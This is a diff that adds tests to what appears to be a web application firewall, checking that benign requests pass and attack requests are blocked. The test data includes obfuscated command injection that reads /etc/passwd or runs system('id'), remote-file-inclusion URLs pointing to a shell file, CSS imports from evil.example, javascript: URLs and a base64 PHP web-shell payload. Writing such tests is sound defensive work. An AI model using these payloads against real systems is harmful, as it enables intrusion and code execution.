@@ -298,6 +298,23 @@ def test_session_replay_tag_names_and_inert_link_targets_pass():
         assert inspect(Request.make("POST", "/rec/bundle", XHR, json.dumps({"Args": [attack]}))).blocked
 
 
+def test_quoted_file_names_in_search_and_data_urls_as_paths_pass():
+    # a search box's text with quotes inside a word that names a file, not a command
+    assert passes(Request.make("GET", "/complete/search?client=chrome&q=" + quote("pass'w'd"), {"User-Agent": UA}))
+    # a broken `src` requested as a relative path: a data: URL's `;base64` is a MIME parameter
+    assert passes(Request.make("GET", "/data:;base64,=", {"User-Agent": UA}))
+    assert inspect(Request.make("GET", "/complete/search?q=" + quote("w'h'o'am'i"))).blocked
+    assert inspect(Request.make("GET", "/data:;cat%20%2Fetc%2Fpasswd")).blocked
+
+
+def test_upstream_addresses_in_admin_json_configs_pass_the_rfi_rules():
+    site = json.dumps({"name": "shop", "upstreams": ["http://127.0.0.1", "http://10.0.0.5:9200/"], "tls": False})
+    v = inspect(Request.make("PUT", "/api/Website", XHR, site))
+    assert not [m for m in v.matches if m.category == "rfi"]
+    assert inspect(Request.make("PUT", "/api/Website", XHR, json.dumps({"tpl": "http://198.51.100.7/shell.txt?"}))).blocked
+    assert inspect(Request.make("GET", "/index.php?page=http://198.51.100.7")).blocked
+
+
 def test_rich_text_html_with_media_and_icons_passes():
     post = ('<p>Release notes</p><p><img src="https://cdn.example.com/u/42/shot.png" alt="screenshot" width="640"></p>'
             '<video src="https://media.example.com/demo.mp4" controls poster="https://media.example.com/demo.jpg"></video>'
@@ -343,3 +360,24 @@ def test_inline_images_and_cidr_blocks_pass():
     php = "data:image/png;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="
     assert inspect(Request.make("GET", "/view?file=" + quote_plus(php), {"User-Agent": UA})).blocked
     assert inspect(Request.make("GET", "/fetch?url=127.0.0.1/admin", {"User-Agent": UA})).blocked
+
+
+def test_html_email_templates_with_style_blocks_pass():
+    email = ("<html><head><style>@media (max-width:600px){.col{width:100%!important}}"
+             "@font-face{font-family:Brand;src:url(https://cdn.example.com/brand.woff2)}"
+             ".hero{background:url(https://cdn.example.com/hero.jpg) no-repeat}</style></head>"
+             "<body><table class=\"col\"><tr><td>Hello {{first_name}}</td></tr></table></body></html>")  # fmt: skip
+    assert passes(Request.make("POST", "/api/campaigns/7/template", XHR, json.dumps({"html": email})))
+    for attack in ("<style>@import'//evil.example/x.css';</style>", "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>"):
+        assert inspect(Request.make("POST", "/api/campaigns/7/template", XHR, json.dumps({"html": attack}))).blocked
+
+
+def test_stack_frames_named_like_php_functions_and_java_type_arguments_pass():
+    stack = ("Error: logout (event)\n    at u (https://console.example.com/:307:12811)\n"
+             "    at a.seajs.cb.exec (https://cdn.example.com/dest/platform.f6e3d4.js?max_age=31536000:1:252999)\n"
+             "    at eval (eval at run (https://cdn.example.com/app.js:1:2), <anonymous>:1:1)")  # fmt: skip
+    assert passes(Request.make("POST", "/event?e=cgi-error", {**XHR, "Content-Type": "text/plain"}, json.dumps([{"stack": stack}])))
+    err = "JSON parse error: Cannot deserialize instance of `java.util.ArrayList<java.lang.Integer>` out of START_OBJECT"
+    assert passes(Request.make("POST", "/collect", XHR, json.dumps({"error": err})))
+    assert inspect(Request.make("POST", "/event", XHR, json.dumps([{"stack": stack + "\n" + "system('id')"}]))).blocked
+    assert inspect(Request.make("POST", "/collect", XHR, json.dumps({"type": "java.lang.Integer"}))).blocked
